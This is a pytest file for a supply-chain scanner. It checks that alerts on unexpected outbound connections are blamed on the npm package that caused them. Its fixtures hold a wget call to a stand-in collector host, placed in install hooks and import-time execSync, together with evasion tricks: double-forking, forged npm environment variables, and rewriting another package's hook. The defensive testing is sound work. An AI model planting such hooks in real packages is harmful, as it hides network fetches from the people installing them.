"""Blame rests on who started whom, not on what a package says of itself."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support import requires
from tests.support.hunter import project_with, scan_json

RULE = "Unexpected outbound connection destination"
FETCH = "wget -qO- --tries=1 http://collector.example/x"


@pytest.fixture(scope="module", autouse=True)
def _host() -> None:
    requires.needs_runc()
    requires.needs_btf()


def blamed(report: dict) -> set[tuple[str, str]]:
    return {(a["blame"]["package"], a["blame"]["script"]) for a in report["alerts"] if a["rule"] == RULE}


def test_daemon_that_double_forks_keeps_its_blame(tmp_path: Path) -> None:
    script = f"(setsid sh -c 'sleep 0.3; {FETCH}' >/dev/null 2>&1 &) ; exit 0"
    report = scan_json(
        project_with(tmp_path / "p", quiet={}, daemon={"postinstall": script}), codes=(0, 1, 4)
    )
    assert blamed(report) == {("pkg:npm/daemon@1.0.0", "postinstall")}


def test_forged_environment_does_not_shift_blame(tmp_path: Path) -> None:
    script = f"npm_package_name=innocent npm_lifecycle_event=test {FETCH}"
    report = scan_json(
        project_with(tmp_path / "p", innocent={}, forger={"preinstall": script}), codes=(0, 1, 4)
    )
    assert blamed(report) == {("pkg:npm/forger@1.0.0", "preinstall")}


def test_writer_of_another_packages_script_is_blamed(tmp_path: Path) -> None:
    project = project_with(
        tmp_path / "p",
        aaa={"postinstall": "printf '#!/bin/sh\\n%s\\n' '" + FETCH + "' > ../zzz/hook.sh"},
        zzz={"postinstall": "sh ./hook.sh"},
    )
    (project / "deps/zzz/hook.sh").write_text("#!/bin/sh\ntrue\n")
    report = scan_json(project, codes=(0, 1, 4))
    assert {package for package, _ in blamed(report)} == {"pkg:npm/aaa@1.0.0"}


def test_import_phase_blames_the_imported_dependency(tmp_path: Path) -> None:
    project = project_with(tmp_path / "p", calm={}, loud={})
    (project / "deps/loud/index.js").write_text(
        "require('child_process').execSync('" + FETCH + " || true');\n"
    )
    report = scan_json(project, codes=(0, 1, 4))
    alerts = [a for a in report["alerts"] if a["rule"] == RULE]
    assert alerts
    assert {(a["blame"]["package"], a["blame"]["phase"]) for a in alerts} == {
        ("pkg:npm/loud@1.0.0", "import")
    }
